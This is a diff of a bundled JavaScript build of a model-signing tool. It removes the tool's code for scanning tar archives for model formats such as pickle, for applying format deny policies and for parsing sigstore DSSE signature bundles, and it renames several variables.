-import { mkdtemp, rm } from "node:fs/promises";
-import os4 from "node:os";
-import path3 from "node:path";
-import { once } from "node:events";
-function isTarName(p2) {
-  return /\.(tar|tar\.gz|tgz)$/i.test(p2);
-}
-async function spool(src, dest) {
-  const ws2 = createWriteStream(dest, { mode: 384 });
-  try {
-    while (await src.ensure(1)) {
-      if (!ws2.write(Buffer.from(src.take(src.buffered)))) await once(ws2, "drain");
-    }
-  } finally {
-    ws2.end();
-    await once(ws2, "close");
-  }
-}
-async function scanTar(archive, limits) {
-  const reports = [];
-  const findings = [];
-  const base2 = path3.basename(archive);
-  let tmp;
-  let chain = Promise.resolve();
-  let failure;
-  const handle = async (entry) => {
-    const name2 = `${base2}:${entry.path}`;
-    if (entry.type !== "File" && entry.type !== "OldFile" && entry.type !== "ContiguousFile") {
-      if (entry.type === "SymbolicLink" || entry.type === "Link") {
-        findings.push({ code: "SCAN_SKIPPED", severity: "medium", file: name2, message: `${entry.type === "Link" ? "hard link" : "symlink"} to ${JSON.stringify(entry.linkpath ?? "")} is not scanned` });
-      }
-      entry.resume();
-      return;
-    }
-    if (reports.length >= limits.maxFiles) {
-      if (!findings.some((f2) => f2.code === "SCAN_LIMIT" && f2.message.startsWith("more than"))) {
-        findings.push({ code: "SCAN_LIMIT", severity: "high", file: name2, message: `more than ${limits.maxFiles} files in the archive; this entry and later ones are not scanned` });
-      }
-      entry.resume();
-      return;
-    }
-    const src = ByteSource.fromIterable(entry, entry.size);
-    await src.ensure(SNIFF_BYTES);
-    const kind = sniff(src.peek(SNIFF_BYTES), entry.path);
-    if (kind === "zip") {
-      if (entry.size > limits.maxMemberBytes) {
-        findings.push({ code: "SCAN_LIMIT", severity: "high", file: name2, message: `zip member of ${entry.size} bytes is over the ${limits.maxMemberBytes}-byte limit for copying out of the archive; not scanned` });
-        await src.drain();
-        return;
-      }
-      let dest;
-      try {
-        tmp ??= await mkdtemp(path3.join(os4.tmpdir(), "modelsign-scan-"));
-        dest = path3.join(tmp, "member.zip");
-        await spool(src, dest);
-      } catch (e) {
-        const code = errnoCode(e);
-        if (code === void 0) throw e;
-        if (dest) await rm(dest, { force: true });
-        findings.push({ code: "SCAN_SKIPPED", severity: "high", file: name2, message: `zip member cannot be copied out of the archive to scan it (${code}; set TMPDIR to a writable directory); not scanned` });
-        await src.drain();
-        return;
-      }
-      try {
-        reports.push(report(name2, entry.size, await scanZip(dest, entry.size, name2, limits)));
-      } finally {
-        await rm(dest, { force: true });
-      }
-      return;
-    }
-    reports.push(report(name2, entry.size, await scanStream(src, kind, entry.size, name2, limits)));
-    await src.drain();
-  };
-  try {
-    const parser = new rt({
-      strict: true,
-      onReadEntry: (entry) => {
-        chain = chain.then(() => handle(entry)).catch((e) => {
-          failure ??= e;
-          entry.resume();
-        });
-      }
-    });
-    const done = new Promise((resolve, reject2) => {
-      parser.on("end", resolve);
-      parser.on("error", reject2);
-      parser.on("close", resolve);
-    });
-    const input = createReadStream2(archive);
-    input.on("error", (e) => parser.emit("error", e));
-    input.pipe(parser);
-    try {
-      await done;
-    } catch (e) {
-      findings.push({ code: "TAR_MALFORMED", severity: "high", file: base2, message: `archive cannot be read: ${e.message}` });
-    }
-    await chain;
-    if (failure) throw failure;
-  } finally {
-    if (tmp) await rm(tmp, { recursive: true, force: true });
-  }
-  return { reports, findings };
-}
-var init_tar = __esm({
-  "src/scan/tar.ts"() {
-    "use strict";
-    init_index_min();
-    init_errors();
-    init_detect();
-    init_scan_file();
-    init_source2();
-  }
-});
-
 // src/scan/types.ts
 function severityRank(s3) {
   return SEVERITIES.indexOf(s3);
 }
-var SEVERITIES, DEFAULT_LIMITS;
+var SEVERITIES, DENIABLE_FORMATS, DEFAULT_LIMITS;
 var init_types = __esm({
   "src/scan/types.ts"() {
     "use strict";
     SEVERITIES = ["low", "medium", "high", "critical"];
+    DENIABLE_FORMATS = ["pickle", "pytorch", "zip", "npz", "npy", "safetensors", "gguf"];
     DEFAULT_LIMITS = {
       maxOpcodes: 5e7,
       maxMemo: 1e6,
@@ -23049,94 +17439,6 @@ var init_types = __esm({
       maxGgufArray: 1e8,
       maxFiles: 1e6
     };
-  }
-});
-
-// src/scan/stage.ts
-import path4 from "node:path";
-function signedFiles(ctx) {
-  const out2 = /* @__PURE__ */ new Set();
-  for (const r of ctx.statement.resources) {
-    if (ctx.statement.serialization.method === "shards") {
-      const s3 = parseShardName(r.name);
-      if (s3) out2.add(s3.path);
-    } else out2.add(r.name);
-  }
-  return [...out2];
-}
-function denied(report2, deny) {
-  if (deny.has("pickle") && (report2.pickle || report2.format === "pytorch")) return report2.format === "pickle" ? "pickle" : `pickle (inside ${report2.format})`;
-  if (deny.has(report2.format)) return report2.format;
-  return void 0;
-}
-function formatsStage(formats, limits = {}) {
-  const deny = new Set((formats.deny ?? []).map((d) => d.toLowerCase()));
-  for (const d of deny) {
-    if (!DENIABLE_FORMATS.includes(d)) {
-      throw usage("POLICY_INVALID", `formats.deny: unknown format "${d}" (known: ${DENIABLE_FORMATS.join(", ")})`);
-    }
-  }
-  const scan = formats.scan === true;
-  const failOn = formats.failOn ?? "low";
-  if (!SEVERITIES.includes(failOn)) throw usage("POLICY_INVALID", `formats.failOn: unknown severity "${String(failOn)}" (known: ${SEVERITIES.join(", ")})`);
-  const lim = { ...DEFAULT_LIMITS, ...limits };
-  return async (ctx) => {
-    if (!scan && deny.size === 0) return [];
-    const ser = ctx.statement.serialization;
-    const listing = ctx.options.listing ?? await enumerateModel(ctx.options.model, { ignorePaths: [], allowSymlinks: ser.allow_symlinks });
-    const byName = new Map(listing.files.map((f2) => [f2.name, f2]));
-    const failures = [];
-    const reports = [];
-    const judge = (report2, shown, findings) => {
-      if (report2) reports.push(report2);
-      const why2 = report2 && denied(report2, deny);
-      if (why2) failures.push({ code: "FORMAT_DENIED", path: shown, message: `policy denies ${why2} files` });
-      if (scan) {
-        for (const x of findings) {
-          if (severityRank(x.severity) < severityRank(failOn)) continue;
-          failures.push({ code: "SCAN_FINDING", path: shown, message: clean3(`${x.severity}: ${x.member !== void 0 ? `${x.member}: ` : ""}${x.message} [${x.code}]`, 2e3) });
-        }
-      }
-    };
-    const single = listing.isFile ? listing.files[0] : void 0;
-    if (single && isTarName(single.abs)) {
-      const base2 = path4.basename(single.abs);
-      const t = await scanTar(single.abs, lim);
-      const entryName = (file) => file.startsWith(`${base2}:`) ? file.slice(base2.length + 1).replace(/^(?:\.\/)+/, "") : file;
-      for (const r of t.reports) judge(r, entryName(r.file), r.findings);
-      for (const x of t.findings) {
-        judge(void 0, entryName(x.file), [x]);
-        if (deny.size > 0 && severityRank(x.severity) >= severityRank("high")) {
-          failures.push({ code: "FORMAT_UNCHECKED", path: entryName(x.file), message: clean3(`cannot tell whether this is a denied format: ${x.message}`, 2e3) });
-        }
-      }
-      ctx.result.extra.scan = reports.map((r) => ({ file: r.file, format: r.format, pickle: r.pickle, findings: r.findings.length }));
-      return failures;
-    }
-    for (const name2 of signedFiles(ctx)) {
-      const f2 = single ?? byName.get(name2);
-      if (!f2) continue;
-      const shown = single ? path4.basename(f2.name) : name2;
-      const report2 = await scanFile(f2.abs, shown, lim);
-      judge(report2, shown, report2.findings);
-      if (single) break;
-    }
-    ctx.result.extra.scan = reports.map((r) => ({ file: r.file, format: r.format, pickle: r.pickle, findings: r.findings.length }));
-    return failures;
-  };
-}
-var DENIABLE_FORMATS;
-var init_stage = __esm({
-  "src/scan/stage.ts"() {
-    "use strict";
-    init_errors();
-    init_enumerate();
-    init_files();
-    init_one_line();
-    init_scan_file();
-    init_tar();
-    init_types();
-    DENIABLE_FORMATS = ["pickle", "pytorch", "zip", "npz", "npy", "safetensors", "gguf"];
   }
 });
 
@@ -23158,7 +17460,7 @@ __export(load_exports, {
   parsePolicyText: () => parsePolicyText,
   validatePolicy: () => validatePolicy
 });
-import path5 from "node:path";
+import path from "node:path";
 function invalid(file, where, msg) {
   return new ModelsignError("POLICY_INVALID", `policy ${file}: ${where ? `${where}: ` : ""}${msg}`, { kind: "usage" });
 }
@@ -23177,7 +17479,7 @@ function suggest(name2, known) {
 function join(at2, key) {
   return at2 === "" ? key : `${at2}.${key}`;
 }
-function describe2(v2) {
+function describe(v2) {
   if (v2 === null || v2 === void 0) return "nothing";
   if (Array.isArray(v2)) return "a list";
   if (typeof v2 === "object") return "a mapping";
@@ -23185,10 +17487,10 @@ function describe2(v2) {
 }
 function readTrust(r, v2, dir) {
   const o = r.object(v2, "trust", ["keys", "certificateChains", "identities"]);
-  const files = (key) => o[key] === void 0 ? [] : r.strings(o[key], `trust.${key}`).map((f2) => path5.resolve(dir, f2));
+  const files = (key) => o[key] === void 0 ? [] : r.strings(o[key], `trust.${key}`).map((f2) => path.resolve(dir, f2));
   const identities = [];
   if (o.identities !== void 0) {
-    if (!Array.isArray(o.identities)) r.fail("trust.identities", `must be a list, got ${describe2(o.identities)}`);
+    if (!Array.isArray(o.identities)) r.fail("trust.identities", `must be a list, got ${describe(o.identities)}`);
     o.identities.forEach((item, i) => {
       const at2 = `trust.identities[${i}]`;
       const id2 = r.object(item, at2, ["identity", "identityRegExp", "issuer"]);
@@ -23232,10 +17534,10 @@ function readLicenseRule(r, v2, at2) {
 }
 function validatePolicy(doc, file) {
   const r = new Reader(file);
-  const dir = path5.dirname(path5.resolve(file));
+  const dir = path.dirname(path.resolve(file));
   const o = r.object(doc, "", ["apiVersion", "trust", "license", "lineage", "revoked", "formats"]);
   if (o.apiVersion === void 0) r.fail("apiVersion", `is required (apiVersion: ${POLICY_API_VERSION})`);
-  if (o.apiVersion !== POLICY_API_VERSION) r.fail("apiVersion", `must be ${POLICY_API_VERSION}, got ${describe2(o.apiVersion)}`);
+  if (o.apiVersion !== POLICY_API_VERSION) r.fail("apiVersion", `must be ${POLICY_API_VERSION}, got ${describe(o.apiVersion)}`);
   const trust = o.trust === void 0 ? void 0 : readTrust(r, o.trust, dir);
   let license;
   const rules = {};
@@ -23258,7 +17560,7 @@ function validatePolicy(doc, file) {
       const m2 = r.object(mv, "lineage.minVersion", typeof mv === "object" && mv !== null ? Object.keys(mv) : []);
       for (const [name2, v2] of Object.entries(m2)) {
         const at2 = `lineage.minVersion.${name2}`;
-        if (typeof v2 !== "string") r.fail(at2, `must be a quoted semver string such as "2.0.0", got ${describe2(v2)}`);
+        if (typeof v2 !== "string") r.fail(at2, `must be a quoted semver string such as "2.0.0", got ${describe(v2)}`);
         if (import_semver.default.valid(v2) === null) r.fail(at2, `"${v2}" is not a semver version (e.g. 2.0.0)`);
         lineage.minVersion[name2] = v2;
       }
@@ -23284,7 +17586,7 @@ function validatePolicy(doc, file) {
       formats.failOn = f2.failOn;
     }
   }
-  return { file: path5.resolve(file), apiVersion: POLICY_API_VERSION, trust, license, lineage, revoked, formats, rules };
+  return { file: path.resolve(file), apiVersion: POLICY_API_VERSION, trust, license, lineage, revoked, formats, rules };
 }
 function findDuplicateKey(node, at2) {
   if ((0, import_yaml.isMap)(node)) {
@@ -23348,7 +17650,6 @@ var init_load = __esm({
     import_yaml = __toESM(require_dist(), 1);
     init_errors();
     init_licenses();
-    init_stage();
     init_types();
     init_types2();
     MAX_POLICY_BYTES = 1024 * 1024;
@@ -23361,7 +17662,7 @@ var init_load = __esm({
         throw invalid(this.file, at2, msg);
       }
       object(v2, at2, fields) {
-        if (typeof v2 !== "object" || v2 === null || Array.isArray(v2)) this.fail(at2, `must be a mapping (object), got ${describe2(v2)}`);
+        if (typeof v2 !== "object" || v2 === null || Array.isArray(v2)) this.fail(at2, `must be a mapping (object), got ${describe(v2)}`);
         const o = v2;
         for (const k2 of Object.keys(o)) {
           if (!fields.includes(k2)) this.fail(join(at2, k2), `unknown field${suggest(k2, fields)}`);
@@ -23369,15 +17670,15 @@ var init_load = __esm({
         return o;
       }
       string(v2, at2) {
-        if (typeof v2 !== "string" || v2 === "") this.fail(at2, `must be a non-empty string, got ${describe2(v2)}`);
+        if (typeof v2 !== "string" || v2 === "") this.fail(at2, `must be a non-empty string, got ${describe(v2)}`);
         return v2;
       }
       bool(v2, at2) {
-        if (typeof v2 !== "boolean") this.fail(at2, `must be true or false, got ${describe2(v2)}`);
+        if (typeof v2 !== "boolean") this.fail(at2, `must be true or false, got ${describe(v2)}`);
         return v2;
       }
       strings(v2, at2) {
-        if (!Array.isArray(v2)) this.fail(at2, `must be a list, got ${describe2(v2)}`);
+        if (!Array.isArray(v2)) this.fail(at2, `must be a list, got ${describe(v2)}`);
         return v2.map((x, i) => this.string(x, `${at2}[${i}]`));
       }
     };
@@ -24918,7 +19219,7 @@ __export(trust_cert_exports, {
 });
 import { X509Certificate as X509Certificate2 } from "node:crypto";
 import { readFile } from "node:fs/promises";
-import path6 from "node:path";
+import path2 from "node:path";
 async function loadRoots(file) {
   let buf;
   try {
@@ -25003,7 +19304,7 @@ function buildPath(leaf, intermediates, roots) {
     if (problem) throw reject("CERT_CHAIN_INVALID", `intermediate certificate "${name(current)}" ${problem}`);
     pathCerts.push(current);
   }
-  throw reject("CERT_CHAIN_UNTRUSTED", `certificate "${name(leaf)}" does not chain to a trusted root (${[...new Set(roots.map((r) => path6.basename(r.file)))].join(", ")})`);
+  throw reject("CERT_CHAIN_UNTRUSTED", `certificate "${name(leaf)}" does not chain to a trusted root (${[...new Set(roots.map((r) => path2.basename(r.file)))].join(", ")})`);
 }
 async function certificateChainTrust(rootFiles) {
   if (rootFiles.length === 0) throw usage("MISSING_OPTION", "certificate chain trust needs at least one root certificate file");
@@ -43304,7 +37605,7 @@ var require_entry_index = __commonJS({
       readFile: readFile4,
       readdir,
       rm: rm5,
-      writeFile: writeFile7
+      writeFile: writeFile6
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
     var path23 = __require("path");
@@ -43356,7 +37657,7 @@ var require_entry_index = __commonJS({
         }
       };
       const write = async (tmp2) => {
-        await writeFile7(tmp2.target, newIndex, { flag: "wx" });
+        await writeFile6(tmp2.target, newIndex, { flag: "wx" });
         await mkdir6(path23.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
@@ -48236,7 +42537,7 @@ var require_verify2 = __commonJS({
       rm: rm5,
       stat: stat8,
       truncate,
-      writeFile: writeFile7
+      writeFile: writeFile6
     } = __require("fs/promises");
     var contentPath = require_path();
     var fsm = require_lib6();
@@ -48445,7 +42746,7 @@ var require_verify2 = __commonJS({
     async function writeVerifile(cache, opts) {
       const verifile = path23.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
-      return writeFile7(verifile, `${Date.now()}`);
+      return writeFile6(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
@@ -56725,764 +51026,42 @@ var require_dist12 = __commonJS({
   }
 });
 
-// src/util/base64.ts
-function isStrictBase64(s3) {
-  const n = s3.length;
-  if (n % 4 !== 0) return false;
-  let end = n;
-  if (n > 0 && s3.charCodeAt(n - 1) === 61) end = s3.charCodeAt(n - 2) === 61 ? n - 2 : n - 1;
-  for (let i = 0; i < end; i++) {
-    const c = s3.charCodeAt(i);
-    const ok = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 43 || c === 47;
-    if (!ok) return false;
-  }
-  return true;
-}
-function decodeBase64(s3, what, code = "SIG_MALFORMED") {
-  const clean5 = /\s/.test(s3) ? s3.replace(/\s+/g, "") : s3;
-  if (!isStrictBase64(clean5)) throw reject(code, `${what} is not valid base64`);
-  return Buffer.from(clean5, "base64");
-}
-var init_base64 = __esm({
-  "src/util/base64.ts"() {
-    "use strict";
-    init_errors();
-  }
-});
-
-// src/oms/dsse.ts
-function pae(payloadType, payload) {
-  const type = Buffer.from(payloadType, "utf8");
-  const head = Buffer.from(`DSSEv1 ${type.length} ${payloadType} ${payload.length} `, "utf8");
-  return Buffer.concat([head, payload]);
-}
-var IN_TOTO_PAYLOAD_TYPE;
-var init_dsse = __esm({
-  "src/oms/dsse.ts"() {
-    "use strict";
-    IN_TOTO_PAYLOAD_TYPE = "application/vnd.in-toto+json";
-  }
-});
-
-// src/oms/bundle.ts
-import { stat as stat2 } from "node:fs/promises";
-function buildBundle(input) {
-  const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
-  return {
-    mediaType: BUNDLE_MEDIA_TYPE,
-    verificationMaterial,
-    dsseEnvelope: {
-      payload: input.payload.toString("base64"),
-      payloadType: IN_TOTO_PAYLOAD_TYPE,
-      signatures: [{ sig: input.signature.toString("base64"), keyid: "" }]
-    }
-  };
-}
-function serializeBundle(bundle) {
-  return JSON.stringify(bundle, null, 2) + "\n";
-}
-async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES, opts = {}) {
-  try {
-    return await readRegularFile(file, maxBytes, opts.noFollow ? { noFollow: true } : {});
-  } catch (e) {
-    if (e instanceof NotRegularFile) {
-      const isDir = await stat2(file).then((st2) => st2.isDirectory(), () => false);
-      if (isDir) throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
-      throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
-    }
-    if (e instanceof FileTooLarge) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
-    const c = errnoCode(e);
-    if (c === "ENOENT") throw reject("SIG_MISSING", `signature file not found: ${file}`);
-    if (c === "ELOOP" && opts.noFollow) {
-      throw reject("SIG_UNREADABLE", `signature file is a symlink, not followed: ${file} (name the signature with --signature to use it)`);
-    }
-    throw reject("SIG_UNREADABLE", `cannot read signature file ${file}: ${c ?? String(e)}`);
-  }
-}
-function bad3(msg) {
-  throw reject("SIG_MALFORMED", `signature bundle is malformed: ${msg}`);
-}
-function parseBundle(bytes) {
-  if (bytes.length === 0) bad3("file is empty");
-  if (bytes.length > MAX_BUNDLE_BYTES) throw reject("SIG_TOO_LARGE", `signature bundle is larger than ${MAX_BUNDLE_BYTES} bytes`);
-  let text;
-  try {
-    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
-  } catch {
-    bad3("not UTF-8");
-  }
-  const json = parseStrictJson(text, { what: "signature bundle", code: "SIG_MALFORMED" });
-  if (!isObject(json)) bad3("not a JSON object");
-  const mediaType = json.mediaType;
-  if (typeof mediaType !== "string" || !mediaType.startsWith("application/vnd.dev.sigstore.bundle")) bad3("missing or unknown mediaType");
-  const vm = json.verificationMaterial;
-  if (!isObject(vm)) bad3("verificationMaterial missing");
-  let material;
-  if (isObject(vm.publicKey)) {
-    const pk = vm.publicKey;
-    material = { kind: "publicKey" };
-    if (pk.hint !== void 0) {
-      if (typeof pk.hint !== "string") bad3("publicKey.hint must be a string");
-      material.hint = pk.hint;
-    }
-    if (pk.rawBytes !== void 0) {
-      if (typeof pk.rawBytes !== "string") bad3("publicKey.rawBytes must be a string");
-      material.rawBytes = decodeBase64(pk.rawBytes, "publicKey.rawBytes");
-    }
-    if (typeof pk.keyDetails === "string") material.keyDetails = pk.keyDetails;
-  } else if (isObject(vm.x509CertificateChain)) {
-    const certs = vm.x509CertificateChain.certificates;
-    if (!Array.isArray(certs) || certs.length === 0 || certs.length > 16) bad3("x509CertificateChain.certificates must hold 1 to 16 certificates");
-    material = {
-      kind: "x509CertificateChain",
-      certificates: certs.map((c, i) => {
-        if (!isObject(c) || typeof c.rawBytes !== "string") bad3(`certificate ${i} has no rawBytes`);
-        return decodeBase64(c.rawBytes, `certificate ${i}`);
-      })
-    };
-  } else if (isObject(vm.certificate)) {
-    if (typeof vm.certificate.rawBytes !== "string") bad3("certificate.rawBytes missing");
-    material = { kind: "certificate", certificate: decodeBase64(vm.certificate.rawBytes, "certificate") };
-  } else {
-    bad3("verificationMaterial has no publicKey, x509CertificateChain or certificate");
-  }
-  const env = json.dsseEnvelope;
-  if (!isObject(env)) {
-    if (json.messageSignature !== void 0) throw reject("UNSUPPORTED_FORMAT", "bundle holds a message signature, not a DSSE envelope: not a model signature");
-    bad3("dsseEnvelope missing");
-  }
-  if (typeof env.payloadType !== "string") bad3("dsseEnvelope.payloadType missing");
-  if (typeof env.payload !== "string" || env.payload.length === 0) bad3("dsseEnvelope.payload missing");
-  const payload = decodeBase64(env.payload, "dsseEnvelope.payload");
-  const sigs = env.signatures;
-  if (!Array.isArray(sigs) || sigs.length === 0) bad3("dsseEnvelope.signatures is empty");
-  if (sigs.length > 16) bad3("too many signatures");
-  const signatures = sigs.map((s3, i) => {
-    if (!isObject(s3) || typeof s3.sig !== "string" || s3.sig.length === 0) bad3(`signature ${i} has no sig`);
-    const keyid = s3.keyid;
-    if (keyid !== void 0 && keyid !== null && typeof keyid !== "string") bad3(`signature ${i} keyid must be a string or null`);
-    return { sig: decodeBase64(s3.sig, `signature ${i}`), keyid };
-  });
-  return { mediaType, material, payloadType: env.payloadType, payload, signatures, json, bytes };
-}
-var BUNDLE_MEDIA_TYPE, MAX_BUNDLE_BYTES;
-var init_bundle = __esm({
-  "src/oms/bundle.ts"() {
-    "use strict";
-    init_read_file();
-    init_errors();
-    init_base64();
-    init_strict_json();
-    init_dsse();
-    BUNDLE_MEDIA_TYPE = "application/vnd.dev.sigstore.bundle.v0.3+json";
-    MAX_BUNDLE_BYTES = 32 * 1024 * 1024;
-  }
-});
-
-// src/sign/signature-path.ts
-import path7 from "node:path";
-async function defaultSignaturePath(model) {
-  const { stat: stat8 } = await import("node:fs/promises");
-  try {
-    if ((await stat8(model)).isDirectory()) return path7.join(model, "model.sig");
-  } catch {
-  }
-  return `${model}.sig`;
-}
-var init_signature_path = __esm({
-  "src/sign/signature-path.ts"() {
-    "use strict";
-  }
-});
-
-// src/hashing/serialize.ts
-import { createHash as createHash3 } from "node:crypto";
-function planResources(files, method, shardSize) {
-  if (method === "files") return files.map((f2) => ({ name: f2.name, file: f2, start: 0, end: f2.size }));
-  if (!shardSize || !Number.isSafeInteger(shardSize) || shardSize <= 0) throw new Error("shard size must be a positive integer");
-  const out2 = [];
-  for (const f2 of files) {
-    if (f2.size === 0) {
-      out2.push({ name: `${f2.name}:0:0`, file: f2, start: 0, end: 0 });
-      continue;
-    }
-    for (let start = 0; start < f2.size; start += shardSize) {
-      const end = Math.min(f2.size, start + shardSize);
-      out2.push({ name: `${f2.name}:${start}:${end}`, file: f2, start, end });
-    }
-  }
-  return out2;
-}
-function taskFor(p2) {
-  return { abs: p2.file.abs, start: p2.start, end: p2.end, expectSize: p2.file.size, followLink: p2.file.viaLink, ...p2.file.id ? { expectId: p2.file.id } : {} };
-}
-async function hashResources(plans, alg, opts = {}) {
-  const outcomes = await hashTasks(plans.map(taskFor), alg, opts);
-  return plans.map((p2, i) => {
-    const o = outcomes[i];
-    if (!o.ok) throw reject(o.code, `${p2.file.name}: ${o.message}`, p2.file.name);
-    return { name: p2.name, algorithm: alg, digest: o.digest };
-  });
-}
-function rootDigest(resources) {
-  const h = createHash3("sha256");
-  for (const r of resources) h.update(Buffer.from(r.digest, "hex"));
-  return h.digest("hex");
-}
-var init_serialize = __esm({
-  "src/hashing/serialize.ts"() {
-    "use strict";
-    init_errors();
-    init_engine();
-  }
-});
-
-// src/hashing/archive.ts
-var archive_exports = {};
-__export(archive_exports, {
-  EMBEDDED_SIGNATURE: () => EMBEDDED_SIGNATURE,
-  archiveSourceFor: () => archiveSourceFor,
-  isArchivePath: () => isArchivePath,
-  scanArchive: () => scanArchive
-});
-import { constants as constants3 } from "node:fs";
-import { open as open3, stat as stat3 } from "node:fs/promises";
-import path8 from "node:path";
-function isArchivePath(p2) {
-  return ARCHIVE_RE.test(p2);
-}
-async function archiveSourceFor(model) {
-  if (!isArchivePath(model)) return void 0;
-  try {
-    if (!(await stat3(model)).isFile()) return void 0;
-  } catch {
-  }
-  return (req) => scanArchive(model, req);
-}
-function cleanName(raw, isDir) {
-  let s3 = raw;
-  while (s3.startsWith("./")) s3 = s3.slice(2);
-  if (isDir) while (s3.endsWith("/")) s3 = s3.slice(0, -1);
-  return s3;
-}
-function entryKind(type) {
-  switch (type) {
-    case "File":
-    case "OldFile":
-    case "ContiguousFile":
-      return "file";
-    case "Directory":
-      return "dir";
-    case "Link":
-      return "hardlink";
-    case "SymbolicLink":
-      return "symlink";
-    case "CharacterDevice":
-    case "BlockDevice":
-    case "FIFO":
-      return "special";
-    default:
-      return "other";
-  }
-}
-async function scanArchive(file, req, opts = {}) {
-  await prepareAlgorithm(req.alg);
-  const maxEntries = opts.maxEntries ?? DEFAULT_MAX_ENTRIES;
-  try {
-    return await scanPass(file, req, { mode: "auto" }, maxEntries);
-  } catch (e) {
-    if (e instanceof RestartWithoutPrefix) return scanPass(file, req, { mode: "none" }, maxEntries);
-    throw e;
-  }
-}
-async function openArchive(file) {
-  let fh;
-  try {
-    fh = await open3(file, constants3.O_RDONLY | (constants3.O_NONBLOCK ?? 0));
-  } catch (e) {
-    const c = errnoCode(e);
-    throw usage("MODEL_NOT_FOUND", c === "ENOENT" ? `model not found: ${file}` : `cannot read archive ${file}: ${c ?? String(e)}`);
-  }
-  const st2 = await fh.stat();
-  if (!st2.isFile()) {
-    await fh.close();
-    throw usage("SPECIAL_FILE", `archive is not a regular file: ${file}`);
-  }
-  return { fh, size: st2.size };
-}
-async function scanPass(file, req, initial, maxEntries) {
-  const root = path8.resolve(file);
-  const { fh, size: archiveSize } = await openArchive(root);
-  const ignorePaths = [...req.ignorePaths, EMBEDDED_SIGNATURE];
-  const problems = [];
-  const files = [];
-  const hashed = /* @__PURE__ */ new Map();
-  const regular = /* @__PURE__ */ new Map();
-  const dirs = /* @__PURE__ */ new Set();
-  const seen = /* @__PURE__ */ new Set();
-  const symlinks = /* @__PURE__ */ new Map();
-  const pending = [];
-  let prefix = initial;
-  let entries = 0;
-  const hostile = (code, raw, message) => problems.push({ code, message: `archive entry ${JSON.stringify(raw)}: ${message}` });
-  const decidePrefix = (raw, cleaned, kind) => {
-    if (prefix.mode !== "auto") return;
-    const segs = cleaned.split("/");
-    if (raw.startsWith("./") || cleaned === "" || segs.length === 1 && kind !== "dir") {
-      prefix = { mode: "none" };
-      return;
-    }
-    const folder = segs[0];
-    const signed = req.signedPaths;
-    if (signed && signed.size > 0 && [...signed].every((p2) => p2.startsWith(`${folder}/`))) {
-      prefix = { mode: "none" };
-      return;
-    }
-    prefix = { mode: "strip", folder };
-  };
-  const toModelName = (cleaned) => {
-    if (cleaned === "" || cleaned === ".") return void 0;
-    if (prefix.mode !== "strip") return cleaned;
-    if (cleaned === prefix.folder) return void 0;
-    if (cleaned.startsWith(`${prefix.folder}/`)) return cleaned.slice(prefix.folder.length + 1);
-    throw new RestartWithoutPrefix();
-  };
-  const hashEntry = (entry, name2, size, done) => {
-    const ranges = req.ranges(name2, size).filter(([s3, e]) => s3 >= 0 && e >= s3 && e <= size);
-    ranges.sort((a, b2) => a[0] - b2[0]);
-    const hashers = ranges.map(() => createHasher2(req.alg));
-    let pos = 0;
-    let lo2 = 0;
-    entry.on("data", (chunk) => {
-      const cEnd = pos + chunk.length;
-      while (lo2 < ranges.length && ranges[lo2][1] <= pos && ranges[lo2][1] !== ranges[lo2][0]) lo2++;
-      for (let i = lo2; i < ranges.length && ranges[i][0] < cEnd; i++) {
-        const [s3, e] = ranges[i];
-        const from = Math.max(s3, pos);
-        const to2 = Math.min(e, cEnd);
-        if (to2 > from) hashers[i].update(chunk.subarray(from - pos, to2 - pos));
-      }
-      pos = cEnd;
-    });
-    entry.on("end", () => {
-      if (pos !== size) {
-        hostile("ARCHIVE_MALFORMED", entry.path, `entry holds ${pos} bytes but its header says ${size}`);
-      } else {
-        ranges.forEach(([s3, e], i) => hashed.set(rangeKey(name2, s3, e), { ok: true, digest: hashers[i].digestHex() }));
-      }
-      done();
-    });
-  };
-  const onEntry = (entry) => {
-    const raw = entry.path;
-    const kind = entryKind(entry.type);
-    entries++;
-    if (entries > maxEntries) {
-      entry.resume();
-      throw usage("TOO_MANY_FILES", `archive has more than ${maxEntries} entries`);
-    }
-    const cleaned = cleanName(raw, kind === "dir");
-    decidePrefix(raw, cleaned, kind);
-    const why2 = cleaned === "" ? void 0 : unsafeNameReason(cleaned);
-    if (why2) {
-      hostile("UNSAFE_NAME", raw, `unsafe name (${why2})`);
-      entry.resume();
-      return;
-    }
-    const name2 = toModelName(cleaned);
-    if (name2 === void 0) {
-      if (kind !== "dir") hostile("UNSAFE_NAME", raw, "a non-directory entry names the model root");
-      entry.resume();
-      return;
-    }
-    if (seen.has(name2)) {
-      hostile("DUPLICATE_NAME", raw, "name appears twice in the archive");
-      entry.resume();
-      return;
-    }
-    seen.add(name2);
-    const ignored = isIgnored(name2, ignorePaths) && !(req.signedPaths?.has(name2) ?? false);
-    switch (kind) {
-      case "dir":
-        dirs.add(name2);
-        entry.resume();
-        return;
-      case "file": {
-        const size = entry.size ?? 0;
-        if (ignored) {
-          regular.set(name2, { size, hashed: false });
-          entry.resume();
-          return;
-        }
-        regular.set(name2, { size, hashed: true });
-        files.push({ name: name2, abs: root, size, viaLink: false });
-        hashEntry(entry, name2, size, () => void 0);
-        return;
-      }
-      case "hardlink": {
-        entry.resume();
-        const target = resolveHardlink(entry.linkpath ?? "");
-        const t = target === void 0 ? void 0 : regular.get(target);
-        if (target === void 0 || !t) {
-          hostile("ARCHIVE_LINK_OUTSIDE", raw, `hard link to ${JSON.stringify(entry.linkpath)}, which is not an earlier file of the model`);
-          return;
-        }
-        if (ignored) return;
-        if (!t.hashed) {
-          hostile("ARCHIVE_LINK_OUTSIDE", raw, `hard link to ignored file ${JSON.stringify(target)}`);
-          return;
-        }
-        for (const [s3, e] of req.ranges(name2, t.size)) {
